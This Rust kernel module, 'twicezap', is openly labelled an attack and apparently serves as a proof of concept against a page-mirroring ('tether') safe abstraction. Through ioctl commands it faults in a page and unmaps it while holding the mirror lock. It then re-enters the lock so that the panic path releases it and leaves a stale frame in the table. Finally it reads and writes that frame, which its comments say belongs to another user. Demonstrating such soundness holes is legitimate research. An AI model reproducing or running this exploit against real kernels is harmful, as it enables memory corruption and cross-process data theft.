// SPDX-License-Identifier: GPL-2.0
#![forbid(unsafe_code)]
//! Unmaps a page in a closure, and locks the shadow again there.
// what it attacks: the second lock is a panic that releases the lock. What the closure has unmapped is then still in
// the table, and who locks it next uses the page, which is somebody else's.
use kernel::{fs::File, mm::MmWithUser, prelude::*};
use tether::{
    misc_device::*,
    mm::{
        hmm::Request,
        mirror::{new_mirror, Mirror, MirrorDevice},
        mmu_notifier::{Range, WouldSleep},
    },
};
module! { type: M, name: "twicezap", authors: ["h"], description: "attack", license: "GPL", }
struct N;
impl MirrorDevice for N {
    fn invalidate(&self, _: &Range<'_>) {}
    fn try_invalidate(&self, _: &Range<'_>) -> Result<(), WouldSleep> {
        Ok(())
    }
}
const ADDRESS: usize = 0x1000_0000;
#[pin_data]
struct Dev {
    #[pin]
    mirror: Mirror<N>,
}
impl Dev {
    fn twice(&self, mm: &MmWithUser) {
        self.mirror.with_pages(|_| {
            if let Some(vma) = mm.lock_vma_under_rcu(ADDRESS) {
                vma.zap_vma_range(ADDRESS, 4096);
            }
            self.mirror.with_pages(|_| ());
        });
    }
}
#[vtable]
impl MiscDevice for Dev {
    type Ptr = Pin<KBox<Self>>;
    fn open(_: &TransientFile, _: &MiscDeviceRegistration<Self>) -> Result<Self::Ptr> {
        let task = current!();
        let mm = task.mm().ok_or(EINVAL)?;
        KBox::pin_init(
            try_pin_init!(Self { mirror <- new_mirror!(mm, ADDRESS, 4096, N) }? Error),
            GFP_KERNEL,
        )
    }
    fn ioctl(me: Pin<&Self>, _: &File, cmd: u32, _: usize) -> Result<isize> {
        let task = current!();
        let mm = task.mm().ok_or(EINVAL)?;
        match cmd {
            0xBB01 => me.mirror.fault(mm, ADDRESS, 1, Request::Write, None)?,
            0xBB02 => me.twice(mm),
            _ => me.mirror.with_pages(|p| {
                let Some(f) = p.get(ADDRESS) else {
                    pr_info!("twicezap: not in the table\n");
                    return;
                };
                let mut b = [0u8; 8];
                let r = f.read(0, &mut b);
                let w = f.write(0, &[0x99; 8]);
                pr_info!(
                    "twicezap: frame {} read {:?} {:x?} written {:?}\n",
                    f.number(),
                    r,
                    b,
                    w
                );
            }),
        }
        Ok(0)
    }
}
#[pin_data]
struct M {
    #[pin]
    d: MiscDeviceRegistration<Dev>,
}
impl kernel::InPlaceModule for M {
    fn init(_: &'static ThisModule) -> impl PinInit<Self, Error> {
        try_pin_init!(Self { d <- MiscDeviceRegistration::register(MiscDeviceOptions { name: c"twicezap" }) })
    }
}
